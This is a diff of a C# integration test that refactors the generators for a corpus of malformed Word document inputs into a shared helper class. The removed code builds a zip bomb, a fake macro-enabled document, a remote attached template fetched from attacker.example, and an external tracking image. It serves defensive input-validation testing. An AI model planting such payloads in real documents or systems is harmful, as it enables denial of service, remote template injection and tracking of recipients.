@@ -1,8 +1,6 @@
-using System.IO.Compression;
 using System.Net.Http.Headers;
 using System.Text;
 using System.Text.Json;
-using DocumentFormat.OpenXml.Packaging;
 using DocumentFormat.OpenXml.Wordprocessing;
 using FactFunctions.IntegrationTests.Infrastructure;
 using FactFunctions.IntegrationTests.Programme;
@@ -101,71 +99,13 @@ public sealed class BadInputCorpusTests(AzuriteFixture fixture)
             "empty" => [],
             "truncated-zip" => good[..(good.Length / 2)],
             "eleven-megabytes" => new byte[11 * 1024 * 1024],
-            "zip-bomb" => Zip(good, zip =>
-            {
-                using var stream = zip.CreateEntry("word/media/bomb.bin", CompressionLevel.SmallestSize).Open();
-                var zeros = new byte[1024 * 1024];
-                for (int i = 0; i < 80; i++)
-                {
-                    stream.Write(zeros);
-                }
-            }),
-            "docm" => Zip(good, zip =>
-            {
-                string types;
-                using (var reader = new StreamReader(zip.GetEntry("[Content_Types].xml")!.Open()))
-                {
-                    types = reader.ReadToEnd();
-                }
-
-                zip.GetEntry("[Content_Types].xml")!.Delete();
-                using (var writer = new StreamWriter(zip.CreateEntry("[Content_Types].xml").Open()))
-                {
-                    writer.Write(types.Replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal));
-                }
-
-                using var vba = zip.CreateEntry("word/vbaProject.bin").Open();
-                vba.Write("not really VBA"u8);
-            }),
-            "external-template" => Word(good, d =>
-            {
-                var settings = d.MainDocumentPart!.DocumentSettingsPart!;
-                settings.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri("https://attacker.example/evil.dotm"), "rIdAttached");
-                settings.Settings!.PrependChild(new AttachedTemplate { Id = "rIdAttached" });
-            }),
-            "external-image" => Word(good, d =>
-                d.MainDocumentPart!.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", new Uri("https://tracker.example/pixel.png"), "rIdPixel")),
-            "missing-tag" => Word(good, d => Control(d, TemplateTags.MilestoneDue).Remove()),
-            "unknown-tag" => Word(good, d => Control(d, TemplateTags.MilestoneDue).SdtProperties!.GetFirstChild<Tag>()!.Val = "milestone.owner"),
+            "zip-bomb" => DocxEdits.Zip(good, DocxEdits.AddBomb),
+            "docm" => DocxEdits.Zip(good, DocxEdits.MakeMacroEnabled),
+            "external-template" => DocxEdits.Word(good, DocxEdits.AttachRemoteTemplate),
+            "external-image" => DocxEdits.Word(good, DocxEdits.AddExternalImage),
+            "missing-tag" => DocxEdits.Word(good, d => DocxEdits.Control(d, TemplateTags.MilestoneDue).Remove()),
+            "unknown-tag" => DocxEdits.Word(good, d => DocxEdits.Control(d, TemplateTags.MilestoneDue).SdtProperties!.GetFirstChild<Tag>()!.Val = "milestone.owner"),
             _ => throw new ArgumentOutOfRangeException(nameof(generator), generator, "Unknown generator in the corpus."),
         };
-    }
-
-    private static SdtElement Control(WordprocessingDocument document, string tag) =>
-        document.MainDocumentPart!.Document!.Descendants<SdtElement>().First(s => s.SdtProperties?.GetFirstChild<Tag>()?.Val?.Value == tag);
-
-    private static byte[] Word(byte[] docx, Action<WordprocessingDocument> edit)
-    {
-        using var stream = new MemoryStream();
-        stream.Write(docx);
-        stream.Position = 0;
-        using (var document = WordprocessingDocument.Open(stream, true))
-        {
-            edit(document);
-        }
-
-        return stream.ToArray();
-    }
-
-    private static byte[] Zip(byte[] docx, Action<ZipArchive> edit)
-    {
-        using var stream = new MemoryStream();
-        stream.Write(docx);
-        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
-        {
-            edit(zip);
-        }
-
-        return stream.ToArray();
     }
 }
